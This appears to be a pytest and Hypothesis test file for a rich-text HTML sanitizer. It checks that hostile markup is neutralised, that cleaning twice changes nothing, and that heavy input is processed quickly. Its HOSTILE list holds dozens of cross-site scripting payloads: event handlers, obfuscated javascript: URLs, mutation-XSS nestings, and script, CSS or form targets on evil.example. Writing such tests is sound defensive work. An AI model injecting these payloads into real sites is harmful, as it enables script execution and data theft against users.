"""Text with tags: a few stay, nothing that acts does, and cleaning twice is cleaning once."""

import re
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qe_ban.kernel import texts
from qe_ban.publishing.rules import rich
from tests.publishing.rules.contents import HOSTS

TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)((?:\s[^<>]*)?)>")
ATTRIBUTES = re.compile(r'( href="https://[^"<>]+")? rel="noopener noreferrer"')

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) style='position:fixed' class=x id=y>文</p>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'><text>文</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=x>",
    "<form action=https://evil.example><input name=id><button>提交</button></form>",
    "<a href='javascript:alert(1)'>文</a>",
    "<a href='JaVaScRiPt:alert(1)'>文</a>",
    "<a href='java&#x09;script:alert(1)'>文</a>",
    "<a href='java&Tab;script:alert(1)'>文</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;cript:alert(1)'>文</a>",
    "<a href='&#x1;javascript:alert(1)'>文</a>",
    "<a href=' javascript:alert(1)'>文</a>",
    "<a href='java\nscript:alert(1)'>文</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>文</a>",
    "<a href='vbscript:x'>文</a>",
    "<a href='//evil.example'>文</a>",
    "<a href='/relative'>文</a>",
    "<a href='https://evil.example/'>文</a>",
    "<a href='https://www.gov.cn@evil.example/'>文</a>",
    "<a href='https://user:secret@www.gov.cn/'>文</a>",
    "<a href='https://www.gov.cn&#x2028;.evil.example/'>文</a>",
    "<a href='https://www.gov.cn\\.evil.example/'>文</a>",
    "<a href='http://www.gov.cn/'>文</a>",
    "<a target=_blank href='https://www.gov.cn/' onmouseover=alert(1)>文</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->文",
    "<![CDATA[<script>alert(1)</script>]]>文",
    "<![foo <p>文</p>",
    "<?xml version='1.0'?><p>文</p>",
    "<p>文&#x202e;字&#x200b;</p>",
    "<p>文\u202e字</p>",
    "＜script＞alert(1)＜/script＞",
    "<b>粗</b><font color=red>红</font><h1>大</h1>",
    "<video src=x></video><audio src=x onloadstart=alert(1)></audio>",
    "<textarea><p>文</textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p>文<p <p><<p>>",
]


def is_safe(cleaned: str) -> bool:
    """Tell whether every tag is of the list, with no attribute but those of a link."""
    return (
        all(
            name in rich.TAGS
            and (attributes == "" or (name == "a" and not end and ATTRIBUTES.fullmatch(attributes) is not None))
            for end, name, attributes in TAG.findall(cleaned)
        )
        and "<" not in TAG.sub("", cleaned)
        and all(rich.links.is_allowed(href, HOSTS) for href in rich.hrefs(cleaned))
        and not texts.FORBIDDEN_IN_LINES.search(cleaned)
    )


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_text_becomes_harmless_and_stays_as_it_became(html):
    cleaned = rich.clean(html, HOSTS)
    assert is_safe(cleaned), cleaned
    assert rich.clean(cleaned, HOSTS) == cleaned
    assert "alert(1)" not in cleaned or not re.search(r"<[^>]*alert", cleaned)


@pytest.mark.parametrize("html", [html for html in HOSTILE if "＜" not in html])
def test_that_something_was_taken_out_is_told(html):
    assert rich.takes_out(html, HOSTS)


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *(f"<{tag}>" for tag in sorted(rich.TAGS)),
        *(f"</{tag}>" for tag in sorted(rich.TAGS)),
        *("<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<!--", "-->", "<", ">", "&lt;", "&amp", ";"),
        *("&#x202e;", "&#0;", "'", '"', "=", "<a href=", "https://www.gov.cn/", "文"),
    ]
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=12).map("".join))
def test_whatever_is_put_together_becomes_harmless_and_cleaning_again_changes_nothing(html):
    cleaned = rich.clean(html, HOSTS)
    assert is_safe(cleaned)
    assert rich.clean(cleaned, HOSTS) == cleaned
    assert not rich.takes_out(cleaned, HOSTS)


def test_what_is_allowed_stays_as_it_was_written():
    html = (
        "<h3>题</h3><p>一<br>二 &amp; <strong>重</strong><em>强</em></p><ul><li>甲</li></ul><ol><li>乙</li></ol>"
        "<blockquote>引</blockquote><table><thead><tr><th>头</th></tr></thead><tbody><tr><td>格</td></tr></tbody></table>"
        '<h4>小</h4><a href="https://www.gov.cn/a?b=1&amp;c=2" rel="noopener noreferrer">链接</a>'
    )
    assert rich.clean(html, HOSTS) == html
    assert not rich.takes_out(html, HOSTS)
    assert rich.hrefs(html) == ["https://www.gov.cn/a?b=1&c=2"]
    assert rich.words("<p>一<br>二 &amp; 三</p>") == "一二 & 三"


@pytest.mark.parametrize(
    "html",
    [
        "<p>没有结束",
        "<P>大写</P>",
        "一 & 二 < 三",
        "<table><tr><td>格</td></tr></table>",
        "<a href='https://www.gov.cn/'>单引号</a>",
        '<a rel="noopener noreferrer" href="https://www.gov.cn/">顺序</a>',
        "<br/>一<br />二",
        "一&nbsp;二&mdash;三",
    ],
)
def test_what_is_only_written_otherwise_is_not_said_to_be_taken_out(html):
    assert not rich.takes_out(html, HOSTS)


def test_the_text_of_a_link_stays_when_the_link_goes():
    assert rich.words(rich.clean("<a href='https://evil.example/'>去看看</a>", HOSTS)) == "去看看"


def test_links_anywhere_stay_only_where_no_hosts_are_given():
    html = '<a href="https://example.com/" rel="noopener noreferrer">文</a>'
    assert rich.clean(html) == html
    assert rich.hrefs(rich.clean(html, HOSTS)) == []


@pytest.mark.parametrize(
    "html",
    [
        "".join(f"<b x={number}>" for number in range(1000)) + "<p>" * 3000,
        "<a href=x>" * 2000,
        "<table>" * 2800,
        "<svg><p>" * 2500,
        "<" * 20000,
        "&" * 20000,
        "<blockquote>" * 1600,
    ],
    ids=lambda html: html[:12],
)
def test_no_text_of_twenty_thousand_characters_keeps_a_processor_busy(html):
    start = perf_counter()
    assert is_safe(rich.clean(html[:20000], HOSTS))
    rich.takes_out(html[:20000], HOSTS)
    assert perf_counter() - start < 3
